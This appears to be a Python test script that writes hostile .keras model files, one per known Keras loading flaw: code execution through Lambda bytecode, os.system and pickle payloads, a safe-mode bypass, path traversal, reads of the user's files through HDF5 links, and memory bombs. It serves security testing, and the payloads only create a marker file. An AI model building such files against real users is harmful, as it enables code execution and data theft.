"""Hostile `.keras` files, each of a kind that has been used against Keras, and what they would leave behind.

python tests/attacks/hostile_keras.py FOLDER      # writes them, to look at
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np

MARK = "PWNED"
"""The file that code in a hostile model would write, in the working directory."""
SECRET = "secret.h5"
"""A file of the user's, which a hostile model would read into its weights."""

ATTACKS: dict[str, Callable[[Path], None]] = {}


def attack(make: Callable[[Path], None]) -> Callable[[Path], None]:
    """Register what writes a hostile file."""
    ATTACKS[make.__name__] = make
    return make


def write(path: Path, config: dict[str, Any], weights: bytes = b"", more: dict[str, bytes] | None = None) -> None:
    """Write a `.keras` file by hand."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": keras.__version__, "date_saved": "2026-01-01"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", weights or empty_weights())
        for name, content in (more or {}).items():
            archive.writestr(name, content)


def empty_weights() -> bytes:
    """Return a weights file without weights."""
    memory = io.BytesIO()
    with h5py.File(memory, "w") as file:
        file.create_group("layers")
    return memory.getvalue()


def with_layer(layer: dict[str, Any]) -> dict[str, Any]:
    """Return the config of a Sequential with one hostile layer."""
    return {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {
            "name": "hostile",
            "trainable": True,
            "dtype": "float32",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
                    "registered_name": None,
                },
                layer,
            ],
            "build_input_shape": [None, 4],
        },
        "build_config": {"input_shape": [None, 4]},
    }


CODE = compile(f"lambda x: (open({MARK!r}, 'w').close(), x)[1]", "hostile", "eval").co_consts[0]


def bytecode() -> dict[str, Any]:
    """Return a serialised function whose code writes the mark."""
    code = base64.b64encode(marshal.dumps(CODE)).decode()
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


def lambda_layer(**more: Any) -> dict[str, Any]:
    """Return the config of a Lambda with hostile bytecode."""
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "lambda", "function": bytecode(), "arguments": {}, **more},
        "registered_name": None,
    }


@attack
def lambda_bytecode(path: Path) -> None:
    """A Lambda whose bytecode runs when it is called."""
    write(path, with_layer(lambda_layer()))


@attack
def lambda_that_says_it_is_safe(path: Path) -> None:
    """A Lambda whose config switches the safe mode off."""
    config = with_layer(lambda_layer(safe_mode=False))
    write(path, {**config, "safe_mode": False, "config": {**config["config"], "safe_mode": False}})


@attack
def safe_mode_switched_off_first(path: Path) -> None:
    """A first layer that calls Keras' own switch of the safe mode (CVE-2025-9906), then a Lambda."""
    config = with_layer(lambda_layer())
    switch = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "enable_unsafe_deserialization",
    }
    config["config"]["layers"].insert(1, switch)
    write(path, config)


@attack
def class_of_another_module(path: Path) -> None:
    """A layer that is `subprocess.Popen` (as in CVE-2025-1550)."""
    write(
        path,
        with_layer(
            {
                "module": "subprocess",
                "class_name": "Popen",
                "config": {"args": ["touch", MARK]},
                "registered_name": None,
            }
        ),
    )


@attack
def function_of_another_module(path: Path) -> None:
    """An activation that is `os.system`."""
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {
            "name": "dense",
            "units": 3,
            "activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"},
        },
    }
    write(path, with_layer(layer))


@attack
def function_called_with_arguments(path: Path) -> None:
    """A functional model whose node calls `os.system` with a command."""
    config = {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "registered_name": "Functional",
        "config": {
            "name": "hostile",
            "trainable": True,
            "layers": [
                {
                    "module": "os",
                    "class_name": "function",
                    "name": "call",
                    "registered_name": "system",
                    "config": "system",
                    "inbound_nodes": [{"args": [f"touch {MARK}"], "kwargs": {}}],
                }
            ],
            "input_layers": [["call", 0, 0]],
            "output_layers": [["call", 0, 0]],
        },
    }
    write(path, config)


@attack
def torch_module_wrapper(path: Path) -> None:
    """A layer that unpickles its config (CVE-2025-49655)."""
    pickled = base64.b64encode(f"cos\nsystem\n(S'touch {MARK}'\ntR.".encode()).decode()
    layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "registered_name": None,
        "config": {"name": "torch", "module": {"class_name": "__bytes__", "config": {"value": pickled}}},
    }
    write(path, with_layer(layer))


@attack
def vocabulary_from_a_file(path: Path) -> None:
    """A StringLookup that reads a file of the user's as its words (CVE-2025-12058)."""
    layer = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "registered_name": None,
        "config": {"name": "words", "vocabulary": str((path.parent / SECRET).resolve()), "num_oov_indices": 1},
    }
    write(path, with_layer(layer))


@attack
def path_traversal(path: Path) -> None:
    """Members that would be unpacked above the folder."""
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3)])
    honest_file = path.with_name("honest.keras")
    model.save(honest_file)
    with zipfile.ZipFile(honest_file) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    honest_file.unlink()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        for name in (f"../{MARK}", f"assets/../../{MARK}", str(path.resolve().with_name(f"{MARK}_absolute"))):
            archive.writestr(name, b"hostile")


def dense_with(weights: Callable[[h5py.Group], None], path: Path, units: int = 3) -> None:
    """Write a model with one Dense layer, whose weights are stored by a function."""
    memory = io.BytesIO()
    with h5py.File(memory, "w") as file:
        weights(file.create_group("layers/dense/vars"))
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {"name": "dense", "units": units},
        "build_config": {"input_shape": [None, 4]},
    }
    write(path, with_layer(layer), memory.getvalue())


@attack
def shape_bomb(path: Path) -> None:
    """A kernel that says it has 2^40 numbers, in a file of a few kilobytes (CVE-2026-0897)."""

    def weights(group: h5py.Group) -> None:
        group.create_dataset("0", shape=(2**20, 2**20), dtype="f4", chunks=(1024, 1024), compression="gzip")
        group.create_dataset("1", data=np.zeros(3, "f4"))

    dense_with(weights, path)


@attack
def external_data(path: Path) -> None:
    """A kernel whose numbers are in a file of the user's (CVE-2026-1669)."""

    def weights(group: h5py.Group) -> None:
        secret = str((path.parent / SECRET).resolve()).encode()
        group.create_dataset("0", shape=(4, 3), dtype="f4", external=[(secret, 0, 48)])
        group.create_dataset("1", data=np.zeros(3, "f4"))

    dense_with(weights, path)


@attack
def link_to_another_file(path: Path) -> None:
    """A kernel that is a link into an HDF5 file of the user's."""

    def weights(group: h5py.Group) -> None:
        group["0"] = h5py.ExternalLink(str((path.parent / SECRET).resolve()), "/numbers")
        group.create_dataset("1", data=np.zeros(3, "f4"))

    dense_with(weights, path)


@attack
def deeply_nested(path: Path) -> None:
    """A config far deeper than a parser can follow."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": keras.__version__}))
        archive.writestr("config.json", '{"config": ' * 100_000 + "1" + "}" * 100_000)
        archive.writestr("model.weights.h5", empty_weights())


@attack
def not_json(path: Path) -> None:
    """A config that is no JSON."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", b"\xff{[" * 100)
        archive.writestr("metadata.json", b"{}")
        archive.writestr("model.weights.h5", b"")


@attack
def many_units(path: Path) -> None:
    """A layer of 2^48 units: more memory than there is."""
    layer = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2**48}}
    write(path, with_layer({**layer, "registered_name": None, "build_config": {"input_shape": [None, 4]}}))


@attack
def saved_model_from_outside(path: Path) -> None:
    """A TFSMLayer that loads a SavedModel beside the file, whose graph is anybody's (CVE-2026-1462)."""
    config = {"name": "outside", "filepath": str((path.parent / "saved").resolve()), "call_endpoint": "serve"}
    write(path, with_layer({"module": "keras.layers", "class_name": "TFSMLayer", "config": config}))


def calling(module: str, name: str, *arguments: Any) -> dict[str, Any]:
    """Return the config of a functional model whose node calls a function of Keras."""
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "name": "call",
        "config": {
            "name": "call",
            "arguments": {},
            "function": {"module": module, "class_name": "function", "config": name, "registered_name": name},
        },
        "inbound_nodes": [{"args": list(arguments), "kwargs": {}}],
    }
    inner = {"name": "hostile", "layers": [layer], "input_layers": [], "output_layers": [["call", 0, 0]]}
    module = "keras.src.models.functional"
    return {"module": module, "class_name": "Functional", "registered_name": "Functional", "config": inner}


@attack
def file_fetched_by_keras(path: Path) -> None:
    """A Lambda that calls `keras.utils.get_file`, which fetches and unpacks what it is told (CVE-2025-8747)."""
    folder = path.parent.resolve()
    write(path, calling("keras.utils", "get_file", MARK, f"file://{folder / SECRET}", False, None, None, str(folder)))


@attack
def model_loaded_by_keras(path: Path) -> None:
    """A Lambda that calls `keras.saving.load_model` on another file, not safely."""
    other = str((path.parent / "other.keras").resolve())
    write(path, calling("keras.saving", "load_model", other, None, False, False))


@attack
def virtual_dataset(path: Path) -> None:
    """A kernel that is a view of a dataset in an HDF5 file of the user's."""

    def weights(group: h5py.Group) -> None:
        layout = h5py.VirtualLayout(shape=(4, 3), dtype="f4")
        layout[:] = h5py.VirtualSource(str((path.parent / SECRET).resolve()), "numbers", shape=(4, 3))
        group.create_virtual_dataset("0", layout)
        group.create_dataset("1", data=np.zeros(3, "f4"))

    dense_with(weights, path)


@attack
def config_bomb(path: Path) -> None:
    """A config of half a gigabyte of blanks, in a file of half a megabyte."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": keras.__version__}))
        with archive.open("config.json", "w") as member:
            for _ in range(512):
                member.write(b" " * (1 << 20))
            member.write(json.dumps(with_layer({})).encode())
        archive.writestr("model.weights.h5", empty_weights())


def main() -> None:
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in ATTACKS.items():
        make(folder / f"{name}.keras")
        print(f"{name}: {(make.__doc__ or '').strip()}")


if __name__ == "__main__":
    main()
